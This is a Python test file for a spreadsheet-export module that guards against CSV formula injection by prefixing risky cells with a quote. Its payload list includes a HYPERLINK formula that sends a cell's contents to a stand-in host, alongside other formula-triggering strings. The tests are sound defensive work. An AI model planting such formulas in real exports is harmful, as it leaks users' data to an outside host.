"""Formula injection: a text cell that a spreadsheet would run as a formula is written as text."""

import csv
import io

import pytest

from maillage.core.spreadsheets import SafeDictWriter, SafeWriter, safe_cell

PAYLOADS = ['=HYPERLINK("http://exemple.invalid/?d="&A1;"clic")', "+1", "-2+3", "@SUM(1+1)"]


@pytest.mark.parametrize(
    "value", [*PAYLOADS, "\t=1+1", "\r=1+1", "-", "+33 6 12 34 56 78", "-1.68-2", "=", "@"]
)
def test_text_that_a_spreadsheet_would_evaluate_gets_a_leading_quote(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value", [7, 0.93, -1.5, True, None, "", "Repair café", "-1.68", "-1,68", "-4", "-1.5e3", "a=b"]
)
def test_numbers_and_harmless_text_are_written_unchanged(value):
    assert safe_cell(value) == value


def test_both_writers_neutralise_every_cell_and_keep_numbers():
    out = io.StringIO()
    SafeWriter(out).writerows([["=colonne", "n"], [PAYLOADS[0], 12], ["-2+3", -3]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["'=colonne", "n"],
        ["'" + PAYLOADS[0], "12"],
        ["'-2+3", "-3"],
    ]
    out = io.StringIO()
    writer = SafeDictWriter(out, ["nom", "score"])
    writer.writeheader()
    writer.writerows([{"nom": "@SUM(1+1)", "score": 0.93}])
    assert list(csv.DictReader(io.StringIO(out.getvalue()))) == [
        {"nom": "'@SUM(1+1)", "score": "0.93"}
    ]
